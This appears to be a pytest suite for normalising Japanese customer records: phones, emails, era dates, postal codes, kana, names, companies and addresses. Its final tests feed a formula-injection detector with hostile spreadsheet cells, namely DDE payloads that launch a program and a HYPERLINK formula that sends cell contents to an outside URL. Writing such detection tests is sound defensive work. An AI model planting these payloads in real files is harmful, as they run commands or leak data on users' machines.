"""Forms met in Japanese customer files, one line each."""

from datetime import date
from typing import Any

import pytest

from governance.customers.normalise.address import address_key
from governance.customers.normalise.chars import cell_problems
from governance.customers.normalise.companies import (
    company_key,
    normalise_company,
    normalise_corporate_number,
)
from governance.customers.normalise.dates import DateRole, normalise_date, normalise_instant
from governance.customers.normalise.email import normalise_email
from governance.customers.normalise.kana import kana_key, normalise_kana
from governance.customers.normalise.names import latin_key, name_key, normalise_name
from governance.customers.normalise.numerals import kanji_number
from governance.customers.normalise.phone import normalise_phone
from governance.customers.normalise.postal import normalise_postal
from governance.customers.normalise.values import (
    normalise_boolean,
    normalise_money,
    normalise_person_id,
    normalise_sex,
)
from governance.customers.types import ProblemKind as P

AT = date(2026, 10, 1)


@pytest.mark.parametrize(
    ("text", "value", "problems"),
    [
        ("03-1234-5679", "+81312345679", ()),
        ("０９０－１２３４－５６７９", "+819012345679", ()),
        ("090ー1234ー5679", "+819012345679", ()),
        ("090−1234−5679", "+819012345679", ()),
        ("（03）1234－5679", "+81312345679", ()),
        ("03(1234)5679", "+81312345679", ()),
        ("+81-(0)90-1234-5679", "+819012345679", ()),
        ("+81 3 1234 5679", "+81312345679", ()),
        ("010-81-3-1234-5679", "+81312345679", ()),
        ("0081312345679", "+81312345679", ()),
        ("81-90-1234-5679", "+819012345679", ()),
        ("℡03-1234-5679", "+81312345679", ()),
        ("TEL：03-1234-5679", "+81312345679", ()),
        ("携帯 090-1234-5679", "+819012345679", ()),
        ("03-1234-5679（内線12）", "+81312345679", ()),
        ("03-1234-5679内線12", "+81312345679", ()),
        ("03-1234-5679 ext.5", "+81312345679", ()),
        ("03-1234-5679（夜間のみ）", "+81312345679", ()),
        ("0120-123-457", "+81120123457", ()),
        ("0800-123-4567", "+818001234567", ()),
        ("050-1234-5679", "+815012345679", ()),
        ("+49 30 23125 972", "+493023125972", ()),
        ("0049 30 23125972", "+493023125972", ()),
        ("9012345679", "+819012345679", (P.LEADING_ZERO_LOST,)),
        ("312345679", "+81312345679", (P.LEADING_ZERO_LOST,)),
        ("03-1234-5679/090-1111-2223", "+81312345679", (P.MULTI_VALUE,)),
        ("03-1234-5679、090-1111-2223", "+81312345679", (P.MULTI_VALUE,)),
        ("03-1234-5679 090-1111-2223", "+81312345679", (P.MULTI_VALUE,)),
        ("03-1234-567", None, (P.PHONE_DIGITS,)),
        ("090-1234-56789", None, (P.PHONE_DIGITS,)),
        ("9.01235E+09", None, (P.PHONE_DIGITS,)),
        ("電話なし", None, (P.PHONE_DIGITS,)),
        ("000-0000-0000", None, (P.PLACEHOLDER,)),
        ("03-0000-0000", None, (P.PLACEHOLDER,)),
        ("なし", None, ()),
        ("-", None, ()),
        ("　", None, ()),
    ],
)
def test_phone_becomes_e164(text: str, value: Any, problems: Any) -> None:
    found = normalise_phone(text)
    assert (found.value, found.problems) == (value, problems)


@pytest.mark.parametrize(
    ("text", "value", "problems"),
    [
        ("Taro@Example.COM", "taro@example.com", ()),
        ("ｔａｒｏ＠ｅｘａｍｐｌｅ．ｃｏｍ", "taro@example.com", ()),
        ("taro＠example.com　", "taro@example.com", ()),
        ("mailto:taro@example.com?subject=x", "taro@example.com", ()),
        ("山田太郎 <taro@example.com>", "taro@example.com", ()),
        ("taro@例え.jp", "taro@xn--r8jz45g.jp", ()),
        ("taro..x@example.com", "taro..x@example.com", (P.EMAIL_RFC_DOTS,)),
        ("taro.@example.com", "taro.@example.com", (P.EMAIL_RFC_DOTS,)),
        ("taro@example.com;hana@example.com", "taro@example.com", (P.MULTI_VALUE,)),
        ("ta ro@example.com", None, (P.EMAIL_SYNTAX,)),
        ("taro@@example.com", None, (P.EMAIL_SYNTAX,)),
        ("taro@example", None, (P.EMAIL_SYNTAX,)),
        ("taro@.example.com", None, (P.EMAIL_SYNTAX,)),
        ("taro@example.com.", None, (P.EMAIL_SYNTAX,)),
        ("taro@example,com", None, (P.EMAIL_SYNTAX,)),
        ("taro(at)example.com", None, (P.EMAIL_SYNTAX,)),
        ("taro@example.com様", None, (P.EMAIL_SYNTAX,)),
        ("@example.com", None, (P.EMAIL_SYNTAX,)),
        ("持っていない", None, ()),
    ],
)
def test_email_is_lower_case_or_refused(text: str, value: Any, problems: Any) -> None:
    found = normalise_email(text)
    assert (found.value, found.problems) == (value, problems)


@pytest.mark.parametrize(
    ("text", "value", "problems"),
    [
        ("1978/04/01", "1978-04-01", ()),
        ("1978-4-1", "1978-04-01", ()),
        ("1978.4.1", "1978-04-01", ()),
        ("19780401", "1978-04-01", ()),
        ("１９７８／０４／０１", "1978-04-01", ()),
        ("1978年4月1日", "1978-04-01", ()),
        ("1978年4月1日生まれ", "1978-04-01", ()),
        ("昭和53年4月1日", "1978-04-01", ()),
        ("昭和５３年４月１日", "1978-04-01", ()),
        ("S53.4.1", "1978-04-01", ()),
        ("s53/04/01", "1978-04-01", ()),
        ("昭53.4.1", "1978-04-01", ()),
        ("㍼53年4月1日", "1978-04-01", ()),
        ("昭和五十三年四月一日", "1978-04-01", ()),
        ("昭和五三年四月一日", "1978-04-01", ()),
        ("昭和元年12月26日", "1926-12-26", ()),
        ("平成元年1月8日", "1989-01-08", ()),
        ("令和元年五月一日", "2019-05-01", ()),
        ("05.04.1978", "1978-04-05", ()),
        ("5 April 1978", "1978-04-05", ()),
        ("5. März 1978", "1978-03-05", ()),
        ("13/04/1978", "1978-04-13", ()),
        ("28581", "1978-04-01", (P.EXCEL_SERIAL,)),
        ("1978-04-01T00:00:00", "1978-04-01", ()),
        ("05/04/1978", None, (P.DATE_AMBIGUOUS,)),
        ("53/4/1", None, (P.DATE_AMBIGUOUS,)),
        ("1978/02/30", None, (P.DATE_IMPOSSIBLE,)),
        ("1978/13/01", None, (P.DATE_IMPOSSIBLE,)),
        ("1987/02/29", None, (P.DATE_IMPOSSIBLE,)),
        ("昭和53年2月30日", None, (P.DATE_IMPOSSIBLE,)),
        ("昭和65年3月3日", None, (P.ERA_INVALID,)),
        ("昭和64年1月8日", None, (P.ERA_INVALID,)),
        ("大正16年8月8日", None, (P.ERA_INVALID,)),
        ("平成0年1月8日", None, (P.ERA_INVALID,)),
        ("2064/11/01", None, (P.DATE_FUTURE,)),
        ("2026/10/02", None, (P.DATE_FUTURE,)),
        ("1978年4月", None, (P.DATE_PARTIAL,)),
        ("1978", None, (P.DATE_PARTIAL,)),
        ("昭和53年4月", None, (P.DATE_PARTIAL,)),
        ("0000/00/00", None, (P.PLACEHOLDER,)),
        ("1900/01/01", None, (P.PLACEHOLDER,)),
        ("1111/11/11", None, (P.PLACEHOLDER,)),
        ("春ごろ", None, (P.DATE_UNPARSEABLE,)),
        ("不明", None, ()),
        ("", None, ()),
    ],
)
def test_birth_date_is_iso_or_has_its_reason(text: str, value: Any, problems: Any) -> None:
    found = normalise_date(text, at=AT, role=DateRole.BIRTH)
    assert (found.value, found.problems) == (value, problems)


def test_a_birth_today_is_no_future_birth() -> None:
    assert normalise_date("2026/10/01", at=AT, role=DateRole.BIRTH).value == "2026-10-01"


def test_an_event_may_lie_in_the_future() -> None:
    assert normalise_date("2028/10/01", at=AT).value == "2028-10-01"


def test_an_absent_mark_in_a_required_date_is_unparseable() -> None:
    found = normalise_date("不明", at=AT, required=True)
    assert found.problems == (P.DATE_UNPARSEABLE,)


@pytest.mark.parametrize(
    ("text", "value", "problems"),
    [
        ("2024-01-05T02:30:33+09:00", "2024-01-04T17:30:33.000Z", ()),
        ("2024-01-05T02:30:33.250Z", "2024-01-05T02:30:33.250Z", ()),
        ("2024-01-05 02:30:33", "2024-01-04T17:30:33.000Z", (P.NO_OFFSET,)),
        ("2024/1/5 2:30", "2024-01-04T17:30:00.000Z", (P.NO_OFFSET,)),
        ("2024/01/05", "2024-01-04T15:00:00.000Z", (P.NO_OFFSET,)),
        ("2024-02-30 02:30:33", None, (P.DATE_IMPOSSIBLE,)),
        ("2024-01-05T25:30:33Z", None, (P.DATE_IMPOSSIBLE,)),
    ],
)
def test_instants_are_utc_and_japanese_time_without_offset(
    text: str, value: Any, problems: Any
) -> None:
    found = normalise_instant(text, at=AT)
    assert (found.value, found.problems) == (value, problems)


@pytest.mark.parametrize(
    ("text", "address", "value", "problems"),
    [
        ("100-0005", "東京都千代田区丸の内1-1", "100-0005", ()),
        ("1000005", "", "100-0005", ()),
        ("〒１００－０００５", "", "100-0005", ()),
        ("〒 100ー0005", "", "100-0005", ()),
        ("392188", "青森県上北郡おいらせ町1-1", "039-2188", (P.LEADING_ZERO_LOST,)),
        ("10030", "北海道札幌市北区", "001-0030", (P.LEADING_ZERO_LOST,)),
        ("100-0005", "大阪府大阪市北区梅田1-1", "100-0005", (P.POSTAL_PREF_MISMATCH,)),
        ("100-0005", "大阪市北区梅田1-1", "100-0005", (P.POSTAL_PREF_MISMATCH,)),
        ("183-0011", "府中市白糸台1-1", "183-0011", ()),
        ("100-0005", "どこか", "100-0005", ()),
        ("69002", "70 boulevard Voltaire, 69002 Lyon", "69002", ()),
        ("SW1A 1AA", "10 Downing Street, London", "SW1A 1AA", ()),
        ("243", "神奈川県海老名市", None, (P.POSTAL_DIGITS,)),
        ("859-32231", "長崎県佐世保市", None, (P.POSTAL_DIGITS,)),
        ("000-0000", "", None, (P.PLACEHOLDER,)),
    ],
)
def test_postal_code_keeps_its_digits_and_is_held_against_the_address(
    text: str, address: str, value: Any, problems: Any
) -> None:
    found = normalise_postal(text, address=address)
    assert (found.value, found.problems) == (value, problems)


@pytest.mark.parametrize(
    ("text", "name", "value"),
    [
        ("ヤマダ　ハナコ", "", "ヤマダ ハナコ"),
        ("ﾔﾏﾀﾞ ﾊﾅｺ", "", "ヤマダ ハナコ"),
        ("やまだ はなこ", "", "ヤマダ ハナコ"),
        ("ヤマダハナコ", "", "ヤマダハナコ"),
        ("ヤマタ゛ ハナコ", "", "ヤマダ ハナコ"),
        ("オ－タ ハナコ", "", "オータ ハナコ"),
        ("ヤマダ・ハナコ", "山田花子", "ヤマダ ハナコ"),
        ("ヤマダ　ハナコ様", "", "ヤマダ ハナコ"),
        ("サカイ ジユンコ", "", "サカイ ジュンコ"),
        ("ハツトリ シンイチ", "", "ハットリ シンイチ"),
        ("キヨシ ミヨ", "", "キヨシ ミヨ"),
        ("ホシユウコ", "", "ホシユウコ"),
        ("エレーヌ・ノエル", "Hélène Noël", "ノエル エレーヌ"),
        ("エレーヌ・ノエル", "エレーヌ・ノエル", "ノエル エレーヌ"),
        ("山田花子", "", None),
        ("Yamada Hanako", "", None),
    ],
)
def test_reading_is_full_width_katakana(text: str, name: str, value: Any) -> None:
    assert normalise_kana(text, name=name).value == value


def test_joined_and_spaced_readings_compare_equal() -> None:
    assert kana_key("ヤマダ ジュンコ") == kana_key("やまだじゆんこ")


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("髙橋　早紀", "高橋早紀"),
        ("岩﨑洋平", "岩崎 洋平"),
        ("中嶋実", "中島實"),
        ("大澤", "大沢"),
        ("廣瀬", "広瀬"),
        ("渡邊", "渡辺"),
        ("渡邉", "渡辺"),
        ("國井", "国井"),
        ("濱口", "浜口"),
        ("𠮷田", "吉田"),
        ("葛\U000e0100西", "葛西"),
        ("齋藤", "斉藤"),
        ("櫻井", "桜井"),
        ("ﾔﾏﾀﾞ", "やまだ"),
        ("Müller", "Mueller"),
        ("山田花子（旧姓佐藤）", "山田 花子"),
        ("Noël", "NOEL"),
    ],
)
def test_search_keys_fold_variants(one: str, other: str) -> None:
    assert name_key(one) == name_key(other)


def test_search_keys_keep_different_names_apart() -> None:
    names = ["高田", "島田", "沢田", "広田", "渡部", "吉川", "国分", "浜田", "斎藤", "崎田", "辺見"]
    assert len({name_key(name) for name in names}) == len(names)


def test_latin_names_compare_in_any_order_and_spelling() -> None:
    assert latin_key("Müller Silke") == latin_key("Silke Mueller") == latin_key("MULLER SILKE")


@pytest.mark.parametrize(
    ("text", "value", "problems"),
    [
        ("　山田　　太郎 様", "山田 太郎", ()),
        ("髙橋　早紀", "髙橋 早紀", ()),
        ("𠮷田 実", "𠮷田 実", ()),
        ("〓邊　静枝", "〓邊 静枝", (P.LOSSY_CHAR,)),
        ("?野　麗奈", "?野 麗奈", (P.LOSSY_CHAR,)),
        ("・崎　房江", "・崎 房江", (P.LOSSY_CHAR,)),
        ("エレーヌ・ノエル", "エレーヌ・ノエル", ()),
        ("（名前未記入）", None, (P.MISSING_REQUIRED,)),
        ("　", None, (P.MISSING_REQUIRED,)),
    ],
)
def test_name_is_kept_as_written(text: str, value: Any, problems: Any) -> None:
    found = normalise_name(text, required=True)
    assert (found.value, found.problems) == (value, problems)


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("㈱ 露草システムズ", "株式会社露草システムズ"),
        ("(株)露草システムズ", "株式会社露草システムズ"),
        ("露草システムズ（株）", "露草システムズ株式会社"),
        ("㈲青嶺運輸", "有限会社青嶺運輸"),
        ("医) 若草野介護ｻｰﾋﾞｽ", "医療法人若草野介護サービス"),
        ("株式会社　青嶺", "株式会社青嶺"),
    ],
)
def test_company_name_spells_its_legal_form_out(text: str, value: Any) -> None:
    assert normalise_company(text).value == value


def test_company_key_ignores_the_legal_form() -> None:
    names = ["㈱露草システムズ", "露草ｼｽﾃﾑｽﾞ (株)", "株式会社　露草システムズ"]
    assert len({company_key(name) for name in names}) == 1


def test_corporate_number_needs_its_check_digit() -> None:
    assert normalise_corporate_number("7000012050002").value == "7000012050002"  # 国税庁
    assert normalise_corporate_number("8000012050002").value is None


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("c000123", "C000123"),
        ("Ｃ０００１２３", "C000123"),
        ("C-000123", "C000123"),
        ("C123 ", "C000123"),
    ],
)
def test_customer_ids_fold(text: str, value: Any) -> None:
    assert normalise_person_id(text).value == value


@pytest.mark.parametrize(
    ("text", "value"),
    [("男", "male"), ("女性", "female"), ("Ｆ", "female"), ("1", "male"), ("9", "unknown")],
)
def test_sex_is_one_of_four(text: str, value: Any) -> None:
    assert normalise_sex(text).value == value


def test_booleans_know_japanese_words_and_refuse_others() -> None:
    assert [normalise_boolean(t).value for t in ("はい", "on", "可", "いいえ", "不可", "")] == [
        "true", "true", "true", "false", "false", None,
    ]  # fmt: skip
    assert normalise_boolean("たぶん").problems == (P.VALUE_UNKNOWN,)


@pytest.mark.parametrize(
    ("text", "value"),
    [("\\9,720", "9720"), ("９７２０円", "9720"), ("¥1,000", "1000"), ("△500", "-500")],
)
def test_money_is_whole_yen(text: str, value: Any) -> None:
    assert normalise_money(text).value == value


@pytest.mark.parametrize(
    ("text", "number"),
    [
        ("五十三", 53),
        ("二〇二六", 2026),
        ("百五", 105),
        ("十", 10),
        ("廿三", 23),
        ("千九百", 1900),
        ("元", 1),
    ],
)
def test_kanji_numerals_count(text: str, number: int) -> None:
    assert kanji_number(text) == number


@pytest.mark.parametrize(
    "text",
    [
        "東京都千代田区丸の内2-27-15 グリーンコート1210",
        "東京都千代田区丸の内２丁目２７番１５号　グリーンコート１２１０号室",
        "千代田区丸の内二丁目二十七番地十五グリーンコート#1210",
        "東京都 千代田区　丸の内2の27の15 グリーンコート 1210号",
    ],
)
def test_addresses_in_any_notation_share_their_key(text: str) -> None:
    key = address_key(text)
    assert (key.place, key.room) == ("千代田区丸の内2-27-15", "1210")


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("=1+1", P.FORMULA_INJECTION),
        ('=HYPERLINK("http://example.com/?x="&A2,"詳細")', P.FORMULA_INJECTION),
        ("@SUM(1+9)*cmd|' /C calc'!A0", P.FORMULA_INJECTION),
        ("+cmd|' /C calc'!A0", P.FORMULA_INJECTION),
        ("-2+3+cmd|' /C calc'!A0", P.FORMULA_INJECTION),
        ("\t=1+2", P.FORMULA_INJECTION),
        ("＝1+1", P.FORMULA_INJECTION),
        ("@hanako_01", P.FORMULA_LEADING),
        ("+81-(0)90-1234-5679", P.FORMULA_LEADING),
        ("-500", P.FORMULA_LEADING),
        ("＋819012345679", P.FORMULA_LEADING),
    ],
)
def test_formulas_are_told_from_honest_signs(text: str, kind: Any) -> None:
    assert kind in set(cell_problems(text))


@pytest.mark.parametrize("text", ["-", "", "1-2", "株式会社", "a=b", "ー", "　"])
def test_ordinary_cells_are_no_formulas(text: str) -> None:
    assert not list(cell_problems(text))
